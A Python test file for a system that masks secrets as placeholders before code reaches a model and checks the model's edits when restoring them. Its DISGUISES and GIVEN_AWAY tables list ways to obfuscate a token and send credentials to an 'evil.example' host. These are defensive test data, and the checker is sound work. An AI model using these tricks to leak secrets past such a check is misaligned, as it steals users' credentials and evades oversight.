"""A reply's placeholders become secrets line by line, however it is cut, and a line without an end is refused."""

from __future__ import annotations

import base64
from collections.abc import Callable
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from planted import Planter

from tuppence.core.secrets.replacements import Replacements, replacements
from tuppence.core.secrets.returned import LONGEST, ReturningText, is_altered, wrong
from tuppence.core.text.document import Document, Edit, Span

TOKEN = "ghp_" + Planter(1).chars("abcdefABCDEF0123456789", 36)
SECRETS = replacements([(TOKEN, "GitHub token", 4)], b"0" * 32, lambda _: False)
[KNOWN] = SECRETS.all
REPLY = f'```python\nx = "{KNOWN.placeholder}"\r\ny = 1\rz = "{KNOWN.placeholder}"\n```'


@pytest.mark.attack("what comes back", "a placeholder cut across chunks")
@given(st.lists(st.integers(0, len(REPLY)), max_size=12))
def test_any_cut_gives_the_same_text(cuts: list[int]) -> None:
    text = ReturningText(SECRETS, Replacements())
    ends = [0, *sorted(cuts), len(REPLY)]
    found = [text.feed(REPLY[start:end]) for start, end in pairwise(ends)]
    found.append(text.finish())
    assert "".join(part for part, _ in found) == REPLY.replace(KNOWN.placeholder, TOKEN)
    assert not any(why for _, why in found)
    assert not any(KNOWN.placeholder in part for part, _ in found)


@pytest.mark.attack("hostile sizes", "a line without an end")
def test_a_line_without_an_end_is_refused() -> None:
    text = ReturningText(SECRETS, Replacements())
    said = [text.feed("x" * 1000)[1] for _ in range(LONGEST // 1000 + 1)]
    assert not any(said[:-1])
    assert said[-1] == "The answer has more than 200,000 characters in a line, where no secret can be put back."
    text = ReturningText(SECRETS, Replacements())
    assert not any(text.feed("x" * 999 + "\n")[1] for _ in range(LONGEST // 100))


PASSWORD, LOGIN = (Planter(seed).chars("abcdefghkm23456789", 12) for seed in (2, 3))
BEFORE = (
    f'def f(xs):\n    token = "{TOKEN}"\n    password = "{PASSWORD}"\n'
    f'    db = connect("postgres://bob:{LOGIN}@db.internal/x")\n    return g(xs, token, password, db)\n'
)
ALL = replacements(
    [(TOKEN, "GitHub token", 4), (PASSWORD, "password", 0), (LOGIN, "password in an address", 0)],
    b"0" * 32,
    BEFORE.__contains__,
)
SEEN = ALL.masked(BEFORE)
T, P, _ = (each.placeholder for each in ALL.all)
Write = Callable[[str], str]


def reason(text: str) -> str:
    """Return why the function may not be what a model made of it."""
    came = ReturningText(ALL, Replacements())
    parts = [came.feed(text), came.finish()]
    restored = "".join(part for part, _ in parts)
    refused = next((why for _, why in parts if why), "")
    target = Span(0, len(BEFORE))
    return refused or wrong(Document("file:///a.py", "python", 1, BEFORE), target, [Edit(target, restored)], ALL)


def adding(literal: str) -> Write:
    return lambda text: f"{text}    x = {literal}\n"


DISGUISES: dict[str, Write] = {
    "backwards": adding(f'"{T[::-1]}"'),
    "base64": adding(f'"{base64.b64encode(T.encode()).decode()}"'),
    "hexadecimal": adding(f'"{T.encode().hex()}"'),
    "octal": adding('"' + "".join(f"\\{ord(each):03o}" for each in T) + '"'),
    "long code points": adding('"' + "".join(f"\\U{ord(each):08x}" for each in T) + '"'),
    "code points in braces": adding('"' + "".join(f"\\u{{{ord(each):x}}}" for each in T) + '"'),
    "zero width": adding('"' + "\u200b".join(T) + '"'),
    "spaces": adding(f'"{" ".join(T)}"'),
    "pieces of six": adding(" + ".join(f'"{T[at : at + 6]}"' for at in range(0, len(T), 6))),
    "pieces over lines": adding("\n".join(f'"{T[at : at + 7]}"' for at in range(0, len(T), 7))),
    "spaces, in its place": lambda text: text.replace(T, " ".join(T)),
    "full width": lambda text: text.replace(T, "".join(chr(ord(each) + 0xFEE0) for each in T)),
    "a short one cut": lambda text: text.replace(P, P[:7]),
    "a short one's end": lambda text: text.replace(P, P[5:]),
    "a short one in two parts": lambda text: text.replace(P, f'{P[:6]}" "{P[6:]}'),
}
GIVEN_AWAY: dict[str, Write] = {
    "another host": lambda text: text.replace("@db.internal", "@evil.example"),
    "a host's name": lambda text: text.replace(f'"{T}"', f'"{T}.evil.example"'),
    "an address without a scheme": lambda text: text.replace(f'"{T}"', f'"//evil.example/{T}"'),
    "an address with escapes": lambda text: text.replace(f'"{T}"', f'"https:\\/\\/evil.example/{T}"'),
    "a parenthesis in quotes": lambda text: text.replace(f'"{T}"', f'print(")", "{T}")'),
    "more of them": lambda text: text.replace(f'"{T}"', f"""print('))', "))))", "{T}")"""),
    "a call far before": lambda text: text.replace(f'"{T}"', f'print("{"x" * 700}", "{T}")'),
    "a call to get": lambda text: text.replace(f'"{T}"', f'requests.get("{T}")'),
}
HARMLESS: dict[str, Write] = {
    "unchanged": str,
    "a setting's default": lambda text: text.replace(f'"{T}"', f'os.environ.get("TOKEN", "{T}")'),
    "a configuration's default": lambda text: text.replace(f'"{T}"', f'self.config.get("token", "{T}")'),
    "an option's default": lambda text: text.replace(f'"{P}"', f'os.getenv("PASSWORD", "{P}")'),
    "a host of a variable": lambda text: text.replace('"postgres', 'f"postgres').replace("db.internal", "{host}"),
    "this machine": lambda text: text.replace("@db.internal/x", "@localhost/x"),
    "parameters": lambda text: text.replace("internal/x", "internal/x?sslmode=require"),
    "other quotes": lambda text: text.replace('"', "'"),
    "indented": lambda text: text.replace("\n    ", "\n        "),
    "on lines of its own": lambda text: text.replace(f'"{T}"', f'(\n        # it\'s for f(\n        "{T}"\n    )'),
    "in order of the alphabet": lambda text: text.replace(f'    token = "{T}"\n', "").replace(
        "    db =", f'    token = "{T}"\n    db ='
    ),
    "wrapped": lambda text: text.replace(f'"{P}"', f'SecretStr("{P}")'),
    "a default of a parameter": lambda text: text.replace("xs):", f'xs, token="{T}"):').replace(
        f'    token = "{T}"\n', ""
    ),
    "numbers and escapes": adding('"\\123 \\x41 %41 &#65; \\u0041", 0x1234567890ABCDEF, 123456789012345'),
}


@pytest.mark.attack("what comes back", "a placeholder written otherwise")
@pytest.mark.parametrize("how", DISGUISES)
def test_a_placeholder_written_otherwise_is_refused(how: str) -> None:
    text = DISGUISES[how](SEEN)
    assert text != SEEN
    assert "alters the placeholder" in reason(text)
    assert is_altered(text.removeprefix(SEEN), ALL), "in tests too"


@pytest.mark.attack("what comes back", "a secret that would be sent or shown")
@pytest.mark.parametrize("how", GIVEN_AWAY)
def test_a_secret_that_would_be_given_away_is_refused(how: str) -> None:
    text = GIVEN_AWAY[how](SEEN)
    assert text != SEEN
    assert "where that value was not" in reason(text)


@pytest.mark.parametrize("how", HARMLESS)
def test_an_ordinary_edit_around_a_secret_is_none(how: str) -> None:
    assert reason(HARMLESS[how](SEEN)) == ""
